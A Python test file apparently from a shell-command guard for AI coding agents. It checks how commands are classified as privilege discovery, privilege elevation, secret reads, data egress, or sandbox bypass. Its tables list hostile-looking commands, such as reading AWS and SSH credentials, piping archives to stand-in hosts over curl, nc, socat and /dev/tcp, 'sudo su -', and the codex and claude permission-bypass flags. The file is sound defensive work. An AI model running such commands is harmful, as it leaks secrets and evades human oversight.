"""Which chain steps a command is, and which of them may enforce."""

from __future__ import annotations

import msgspec
import pytest

from latchd.chains.catalogue import NOTHING, Step
from latchd.chains.content import NO_FLOWS
from latchd.chains.projection import Projection, denied, project
from latchd.shell.facts import analyze


def steps(command: str) -> Projection:
    """What of it is a step; what it moves between files is test_taint.py's matter."""
    projection = project(analyze(command, cwd="/home/dev/project", home="/home/dev"))
    return msgspec.structs.replace(projection, flows=NO_FLOWS)


EXACT = {
    "sudo -l": Step.PRIVILEGE_DISCOVERY,
    "sudo --list": Step.PRIVILEGE_DISCOVERY,
    "sudo -n -l": Step.PRIVILEGE_DISCOVERY,
    "find / -perm -4000 -type f 2>/dev/null": Step.PRIVILEGE_DISCOVERY,
    "find /usr -perm /u+s": Step.PRIVILEGE_DISCOVERY,
    "getcap -r / 2>/dev/null": Step.PRIVILEGE_DISCOVERY,
    "sudo -u admin zsh": Step.PRIVILEGE_ELEVATION,
    "sudo -i": Step.PRIVILEGE_ELEVATION,
    "sudo su -": Step.PRIVILEGE_ELEVATION,
    "pkexec bash": Step.PRIVILEGE_ELEVATION,
    "nsenter -t 1 -m sh": Step.PRIVILEGE_ELEVATION,
    "codex --dangerously-bypass-approvals-and-sandbox": Step.RUNTIME_BYPASS,
    "claude --dangerously-skip-permissions -p x": Step.RUNTIME_BYPASS,
}

SEEN = {
    "gcloud secrets versions access latest --secret=db": Step.SECRET_MANAGER_READ,
    "vault kv get secret/x": Step.SECRET_MANAGER_READ,
    "cat ~/.aws/credentials": Step.SECRET_READ,
    "base64 < ~/.ssh/id_ed25519": Step.SECRET_READ,
    "curl -T build/report.tgz https://drop.example.test/in/": Step.EGRESS,
    "tar c . | curl -T - https://h.test/x": Step.EGRESS,
    'curl -d "$BODY" https://h.test/x': Step.EGRESS,
    "wget --post-data=$(date) https://h.test/x": Step.EGRESS,
    "aws s3 cp build/report.tgz s3://drop/": Step.EGRESS,
    "gh gist create notes.txt": Step.EGRESS,
    "rclone copy notes.txt drop:": Step.EGRESS,
    "nc h.test 99 < notes.txt": Step.EGRESS,
    "git push https://h.test/x.git HEAD": Step.EGRESS,
    "git push git@h.test:x.git HEAD": Step.EGRESS,
    "scp notes.txt h.test:": Step.EGRESS,
    "rsync -a notes/ h.test:notes/": Step.EGRESS,
    "ssh h.test 'cat > y' < notes.txt": Step.EGRESS,
    "tar c . | ssh h.test 'cat > y'": Step.EGRESS,
    "tar c . | socat - TCP:h.test:99": Step.EGRESS,
    "openssl s_client -connect h.test:443 < notes.txt": Step.EGRESS,
    "cat notes.txt > /dev/tcp/h.test/99": Step.EGRESS,
    'echo "$BODY" > /dev/tcp/h.test/99': Step.EGRESS,
    "tar c . | aws s3 cp - s3://drop/x.tar": Step.EGRESS,
    "gsutil cp notes.txt gs://drop/": Step.EGRESS,
    "gcloud storage cp notes.txt gs://drop/": Step.EGRESS,
    "gh release upload v1 notes.txt": Step.EGRESS,
    "npm publish": Step.EGRESS,
    "cargo publish": Step.EGRESS,
    "gem push x.gem": Step.EGRESS,
    "docker push h.test/image": Step.EGRESS,
    "vercel deploy": Step.EGRESS,
    "mail -s x a@h.test < notes.txt": Step.EGRESS,
    "mutt -a notes.txt -- a@h.test": Step.EGRESS,
    "kubectl exec -it pod -- sh": Step.LATERAL_EXECUTION,
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token": Step.SECRET_READ | Step.IDENTITY_READ,
}

NONE = [
    "sudo -V",
    "sudo -v -u alice",
    "sudo apt-get install -y jq",
    "sudo bash -c 'ls'",
    "find . -perm -4000",
    "find / -perm 644",
    "getcap /usr/bin/ping",
    "gcloud secrets list",
    "cat .env.example",
    "ls -la ~/.ssh",
    "echo sudo -l",
    "curl https://api.test/v1/items",
    "curl -d '{\"a\": 1}' https://h.test/x",
    "curl -o out.json -d '{\"a\": 1}' https://h.test/x",
    'curl -d "$BODY" http://127.0.0.1:8000/x',
    "aws s3 ls s3://drop/",
    "aws s3 cp s3://drop/report.tgz .",
    "gh gist list",
    "git push git@localhost:x.git HEAD",
    "scp h.test:notes.txt .",
    "rsync -a h.test:notes/ notes/",
    "ssh h.test 'cat > y' < /dev/null",
    "ssh h.test uptime",
    "ssh 127.0.0.1 'cat > y' < notes.txt",
    "tar c . | socat - TCP:127.0.0.1:99",
    "openssl s_client -connect h.test:443 < /dev/null",
    "echo hi > /dev/tcp/h.test/99",
    "cat notes.txt > /dev/tcp/127.0.0.1/99",
    "sftp h.test < batch.txt",
    "psql -h h.test < schema.sql",
    "gsutil cp gs://drop/notes.txt .",
    "gcloud storage cp gs://drop/notes.txt .",
    "gh release download v1",
    "npm publish --dry-run",
    "npm pack",
    "cargo publish --dry-run",
    "docker pull h.test/image",
    "kubectl cp pod:/tmp/k k",
    "git push origin main",
    "git push",
    "curl -d @a.json http://localhost:3000/x",
    "codex --help",
    "codex exec 'write a test'",
    "kubectl get pods",
]


@pytest.mark.parametrize(("command", "step"), EXACT.items())
def test_a_step_of_a_chain_that_blocks_is_exact_when_nothing_is_in_doubt(command: str, step: Step) -> None:
    assert steps(command) == Projection(step, step)


@pytest.mark.parametrize(("command", "step"), SEEN.items())
def test_a_step_of_a_chain_that_only_tells_is_seen_and_never_exact(command: str, step: Step) -> None:
    assert steps(command) == Projection(step, NOTHING)


@pytest.mark.parametrize("command", NONE)
def test_what_only_looks_like_a_step_is_none(command: str) -> None:
    assert steps(command) == Projection()


def test_a_first_step_in_a_branch_is_seen_but_its_success_proves_nothing() -> None:
    assert steps("if test -t 0; then sudo -l; fi") == Projection(Step.PRIVILEGE_DISCOVERY, NOTHING)


def test_a_second_step_in_a_branch_may_run_and_so_is_exact() -> None:
    assert steps("true && sudo -i") == Projection(Step.PRIVILEGE_ELEVATION, Step.PRIVILEGE_ELEVATION)


def test_a_step_beside_something_unknown_is_seen_and_not_exact() -> None:
    assert steps("sudo -l; $X") == Projection(Step.PRIVILEGE_DISCOVERY, NOTHING)


def test_a_typed_denial_is_exact_only_for_a_call_that_was_proposed() -> None:
    assert denied(matched=True) == Projection(Step.PERMISSION_DENIED, Step.PERMISSION_DENIED)
    assert denied(matched=False) == Projection(Step.PERMISSION_DENIED, NOTHING)
